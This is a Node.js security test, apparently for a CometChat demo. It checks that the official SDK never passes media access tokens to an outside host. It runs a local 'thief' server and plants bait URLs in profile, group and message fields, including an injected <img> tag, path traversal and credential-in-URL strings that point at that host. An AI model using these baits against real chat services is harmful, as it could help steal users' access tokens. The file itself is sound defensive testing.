/** What would make CometChat's own SDK hand a token to somebody else, in every place for words. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { after, before, suite, test } from 'node:test'
import { launchBrowser } from '../harness/browser.js'
import { Demo } from '../harness/demo.js'
import { OfficialPage } from '../harness/official_sdk.js'
import { until } from '../harness/until.js'

suite("baits for tokens of CometChat's own SDK", () => {
  let demo, browsers, official, alice, bob, thief
  const heard = []

  before(async () => {
    demo = await Demo.start('--https')
    browsers = await Promise.all([launchBrowser(), launchBrowser()])
    official = await OfficialPage.serve()
    alice = await official.open(browsers[0], demo)
    bob = await official.open(browsers[1], demo)
    await official.login(alice, demo, 'alice')
    await official.login(bob, demo, 'bob')
    thief = createServer((request, response) => {
      heard.push(`${request.url} ${JSON.stringify(request.headers)}`)
      response.writeHead(404).end()
    }).listen(0, '127.0.0.1')
    await once(thief, 'listening')
  })
  after(async () => {
    for (const browser of browsers ?? []) await browser.close()
    official?.close()
    thief?.closeAllConnections()
    thief?.close()
    await demo?.stop()
  })

  /** A call past the SDK: whoever baits is not bound to it. */
  const call = async (method, path, headers, data) => {
    const response = await bob.request.fetch(`${demo.line.apiUrl}/v3/${path}`, {
      method,
      headers: { appid: demo.line.appId, ...headers },
      ...(data && { data })
    })
    assert.equal(
      response.status(),
      200,
      `${path} ${JSON.stringify(data)}: ${await response.text()}`
    )
    return (await response.json()).data
  }
  const asBackEnd = (method, path, data) => call(method, path, { apikey: demo.line.apiKey }, data)

  const sendPicture = (receiver, type, words) =>
    alice.evaluate(
      async ([receiver, type, words]) => {
        const canvas = new OffscreenCanvas(8, 8)
        canvas.getContext('2d').fillRect(0, 0, 8, 8)
        const file = new File([await canvas.convertToBlob()], `${words}.png`, { type: 'image/png' })
        const message = new CometChat.MediaMessage(receiver, file, 'image', type)
        message.setCaption(words)
        message.setMetadata({ [words]: words, avatar: words, deep: { list: [words, [words]] } })
        if (words.length <= 100) message.setTags([words])
        const sent = await CometChat.sendMediaMessage(message)
        return { id: String(sent.getId()), url: sent.getURL() }
      },
      [receiver, type, words]
    )

  /** Everything that the SDK gives the receiver about these messages and who is in them. */
  const strings = (ids, group) =>
    bob.evaluate(
      async ([ids, group]) => {
        const history = (of) => of.setLimit(50).build().fetchPrevious()
        const asked = {
          details: () => Promise.all(ids.map((id) => CometChat.getMessageDetails(id))),
          direct: () => history(new CometChat.MessagesRequestBuilder().setUID('alice')),
          group: () => history(new CometChat.MessagesRequestBuilder().setGUID(group)),
          conversations: () =>
            new CometChat.ConversationsRequestBuilder().setLimit(50).build().fetchNext(),
          conversation: () => CometChat.getConversation('alice', 'user'),
          users: () => new CometChat.UsersRequestBuilder().setLimit(50).build().fetchNext(),
          groups: () => new CometChat.GroupsRequestBuilder().setLimit(50).build().fetchNext(),
          user: () => CometChat.getUser('alice'),
          theGroup: () => CometChat.getGroup(group)
        }
        const given = [window.pushed]
        for (const [what, ask] of Object.entries(asked)) {
          given.push(
            await ask().catch(({ code, message }) => {
              throw new Error(`${what}: ${code} ${message}`)
            })
          )
        }
        const found = new Set()
        const seen = new Set()
        const walk = (value) => {
          if (typeof value === 'string') found.add(value)
          if (typeof value !== 'object' || !value || seen.has(value)) return
          seen.add(value)
          for (const [key, each] of Object.entries(value)) {
            found.add(key)
            walk(each)
          }
        }
        walk(given)
        return [...found]
      },
      [ids, group]
    )

  test('a dozen baits in every field make it hand no token to anybody', async () => {
    const host = `${demo.line.mediaUrl}/${demo.line.appId}/media/`
    const evil = `http://127.0.0.1:${thief.address().port}`
    const { url } = await sendPicture('bob', 'user', 'the first')
    const [real, query] = url.split('?')
    const token = query.replace('fat=', '')
    const baits = [
      `${evil}/?u=${host}`,
      `${evil}/${host}a.jpg`,
      `${evil}/#${host}`,
      `${evil}\\${host}`,
      `${evil}/?a=${host}&b=${host}`,
      `${evil.replace('//', '//user:word@')}/?${host}`,
      `see ${evil}/?u=${host} and more`,
      `<img src="${evil}/?${host}">`,
      `${host}`,
      `${host}../../x`,
      `${host}00112233445566778899aabbccddeeff.png/`,
      `${real}?x=1`,
      `${evil}/?u=${real}`,
      `${evil}/?u=${host}&${query}`,
      `${host}a?${query}`
    ]
    await bob.evaluate(() => {
      window.pushed = []
      const hear = (message) => window.pushed.push(message)
      CometChat.addMessageListener(
        'baits',
        new CometChat.MessageListener({
          onTextMessageReceived: hear,
          onMediaMessageReceived: hear,
          onCustomMessageReceived: hear,
          onMessageEdited: hear,
          onMessageDeleted: hear
        })
      )
    })
    const group = demo.line.group
    const ids = []
    for (const bait of baits) {
      await asBackEnd('PUT', 'users/alice', {
        avatar: bait,
        link: bait,
        statusMessage: bait.length <= 200 ? bait : null,
        metadata: { bait, deep: [bait] }
      })
      await asBackEnd('PUT', `groups/${group}`, {
        icon: bait,
        description: bait,
        metadata: { bait, deep: [bait] }
      })
      ids.push((await sendPicture('bob', 'user', bait)).id)
      ids.push((await sendPicture(group, 'group', bait)).id)
      const custom = await call(
        'POST',
        'messages',
        { apikey: demo.line.apiKey, onbehalfof: 'alice' },
        {
          receiver: 'bob',
          receiverType: 'user',
          category: 'custom',
          type: 'bait',
          data: {
            customData: { bait, url: bait },
            text: bait,
            attachments: [{ url: real, name: bait.length <= 255 ? bait : 'a.png' }]
          }
        }
      )
      ids.push(String(custom.id))
      await alice.evaluate(
        async ([id, words]) => {
          const text = await CometChat.sendMessage(new CometChat.TextMessage('bob', words, 'user'))
          const edit = new CometChat.TextMessage('bob', `${words} edited`, 'user')
          edit.setId(text.getId())
          await CometChat.editMessage(edit)
        },
        [custom.id, bait]
      )
    }
    await until(
      () =>
        bob.evaluate(
          (ids) => ids.every((id) => pushed.some((one) => String(one.getId()) === id)),
          ids
        ),
      'every message was pushed'
    )
    const given = await strings(ids, group)
    const carrying = given.filter((text) => text.includes('fat='))
    assert.ok(carrying.length >= 2 * baits.length, 'the pictures themselves have tokens')
    for (const text of carrying) {
      assert.match(text.slice(host.length), /^[0-9a-f]{32}(_[a-z]+)?\.[a-z0-9]+\?fat=[\w.-]+$/)
      assert.ok(text.startsWith(host), text)
      assert.ok(!text.includes(token), 'a token of the sender')
    }
    // What a careless page does with what it is given.
    await bob.evaluate(async (found) => {
      const links = found.flatMap((text) => text.match(/https?:[^\s"<>]+/gi) ?? [])
      await Promise.all(
        links.map((link) => fetch(link, { mode: 'no-cors' }).catch(() => undefined))
      )
      const pictures = found.map((text) => Object.assign(new Image(), { src: text }))
      await Promise.all(pictures.map((picture) => picture.decode().catch(() => undefined)))
    }, given)
    assert.ok(heard.length >= baits.length / 2, `the baits were taken: ${heard.length}`)
    for (const request of heard) {
      assert.ok(!/fat=|eyJ/.test(request), request)
    }
  })
})
